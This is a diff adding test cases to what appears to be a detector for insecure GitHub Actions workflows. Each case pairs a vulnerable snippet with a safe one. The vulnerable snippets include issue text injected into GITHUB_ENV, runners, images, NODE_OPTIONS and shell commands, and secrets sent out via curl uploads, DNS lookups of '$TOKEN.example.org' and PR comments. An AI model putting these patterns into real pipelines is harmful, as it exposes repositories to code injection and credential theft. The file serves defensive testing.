@@ -36,6 +36,29 @@ TEXTS = """      - env:
           @
 """
 RETURNED = f"      - uses: actions/github-script@{SHA}\n        id: a\n        with:\n          script: |\n            @\n      - run: echo ${{{{ steps.a.outputs.result }}}}\n"
+MATRIX = """      - run: echo
+  test:
+    strategy:
+      matrix:
+        system: @
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo ${{ matrix.system }}
+"""
+IMAGE = """      - run: echo
+  test:
+    runs-on: ubuntu-latest
+    container:
+      image: @
+    steps:
+      - run: make
+"""
+RUNNER = """      - run: echo
+  test:
+    runs-on: @
+    steps:
+      - run: make
+"""
 ARTIFACT = (
     '      - env: {K: "${{ secrets.K }}"}\n        run: @\n      - uses: actions/upload-artifact\0'
     + SHA
@@ -98,6 +121,29 @@ CASES = [
     Case("a body up to a word that anybody can write", INJECTED, TEXTS, '{ echo "N<<EOF"; echo "$B"; echo EOF; } >> "$GITHUB_ENV"', 'end=$(uuidgen); { echo "N<<$end"; echo "$B"; echo "$end"; } >> "$GITHUB_ENV"', "issues"),
     Case("a title as the name of a variable", INJECTED, TEXTS, 'echo "$T" >> "$GITHUB_ENV"', 'echo "N=${B//[^a-z]/}" >> "$GITHUB_ENV"', "issues"),
     Case("a title in the folders of programs", INJECTED, TEXTS, 'echo "$T" >> $GITHUB_PATH', 'echo "$HOME/bin" >> $GITHUB_PATH', "issues"),
+    Case("a body beside a text that is cleaned", INJECTED, TEXTS, 'echo "N=$B$(echo x | tr a b)" >> "$GITHUB_ENV"', 'echo "N=$(echo "$B" | tr -d \'\\n\')" >> "$GITHUB_ENV"', "issues"),
+    Case("a body beside a text that is cut", INJECTED, TEXTS, '{ echo "A=$(date | head -n 1)"; echo "N=$B"; } >> "$GITHUB_ENV"', '{ echo "A=$(date)"; echo "N=$(echo "$B" | head -n 1)"; } >> "$GITHUB_ENV"', "issues"),
+    Case("a body for the environment under another name", INJECTED, TEXTS, 'F=$GITHUB_ENV; echo "N=$B" >> "$F"', 'F=notes.txt; echo "N=$B" >> "$F"', "issues"),
+    Case("a body for the environment through tee", INJECTED, TEXTS, 'echo "N=$B" | tee -a "$GITHUB_ENV"', 'echo "N=$B" | tee -a notes.txt', "issues"),
+    Case("a body for the environment in a document", INJECTED, TEXTS, "cat >> $GITHUB_ENV <<END\n          N=$B\n          END", "cat >> $GITHUB_ENV <<'END'\n          N=$B\n          END", "issues"),
+    Case("a body for the environment in a file", INJECTED, TEXTS, 'echo "N=$B" > n.txt\n          cat n.txt >> "$GITHUB_ENV"', 'echo "N=$B" > n.txt\n          cat o.txt >> "$GITHUB_ENV"', "issues"),
+    Case("a body that Python writes for later steps", INJECTED, PYTHON, "open(os.environ['GITHUB_ENV'], 'a').write('B=' + os.environ['BODY'])", "open(os.environ['GITHUB_OUTPUT'], 'a').write('B=' + os.environ['BODY'])"),
+    Case("a body that JavaScript writes for later steps", INJECTED, SCRIPT, "require('fs').appendFileSync(process.env.GITHUB_ENV, process.env.BODY)", "require('fs').appendFileSync(process.env.GITHUB_ENV, 'A=1')"),
+    Case("a matrix of outsiders", INJECTED, MATRIX, "${{ fromJSON(github.event.issue.body) }}", "${{ fromJSON(vars.SYSTEMS) }}", at_least=0.7),
+    Case("an image that outsiders name", INJECTED, IMAGE, "${{ github.event.issue.title }}", "ghcr.io/shop/build:${{ github.event.issue.number }}"),
+    Case("a runner that outsiders name", INJECTED, RUNNER, "${{ github.event.issue.title }}", "${{ github.event.issue.title == 'x' && 'macos-latest' || 'ubuntu-latest' }}"),
+    Case("a shell that outsiders name", INJECTED, "      - run: make\n        shell: @\n", "${{ github.event.issue.title }} {0}", "${{ github.event.issue.number == 1 && 'sh' || 'bash' }} {0}"),
+    Case("a variable that every program reads", INJECTED, "      - run: node a.js\n        env:\n          @\n", "NODE_OPTIONS: ${{ github.event.issue.title }}", "TITLE: ${{ github.event.issue.title }}"),
+    Case("a title as a variable of make", INJECTED, TEXTS, 'make label NAME="$T"', 'make label', at_least=0.7),
+    Case("a title in an expression of sed", INJECTED, TEXTS, 'sed -i "s/NAME/$T/" a.txt', 'sed -i s/NAME/TITLE/ "$T.txt"', at_least=0.7),
+    Case("a title in a program of awk", INJECTED, TEXTS, 'awk "{ print \\"$T\\" }" a.txt', "awk -v t=\"$T\" '{ print t }' a.txt", at_least=0.7),
+    Case("a title that runs at the end", INJECTED, TEXTS, 'trap "$T" EXIT', "trap 'rm -f a.txt' EXIT; echo \"$T\""),
+    Case("a title that another user runs", INJECTED, TEXTS, 'su -c "echo $T" shop', 'su shop -s /bin/true; echo "$T"'),
+    Case("commands by printed text", INJECTED, "      - run: @\n", 'echo "ACTIONS_ALLOW_UNSECURE_COMMANDS=true" >> $GITHUB_ENV', 'echo "ACTIONS_STEP_DEBUG=true" >> $GITHUB_ENV'),
+    Case("a secret in a name that is looked up", SECRET, RUN, 'nslookup "$TOKEN.example.org"', 'nslookup "$TOKEN"', "push"),
+    Case("a secret in a comment", SECRET, RUN, 'gh pr comment 1 --body "$TOKEN"', 'gh secret set A --body "$TOKEN"', "push"),
+    Case("a secret in the summary", SECRET, RUN, 'echo "$TOKEN" | base64 >> $GITHUB_STEP_SUMMARY', 'echo "$HOME" | base64 >> $GITHUB_STEP_SUMMARY', "push"),
+    Case("a secret in a file that is sent", SECRET, RUN, '|\n          echo "$TOKEN" > t\n          curl -T t https://example.net', '|\n          echo "$TOKEN" > t\n          curl -T u https://example.net', "push", 0.5),
     Case("all variables in an artifact", SECRET, ARTIFACT, "env > e.txt", "env > f.txt", "push"),
     Case("a secret in an artifact", SECRET, ARTIFACT, 'echo "$K" | base64 > out/e.txt', 'echo "$HOME" | base64 > out/e.txt', "push"),
     Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
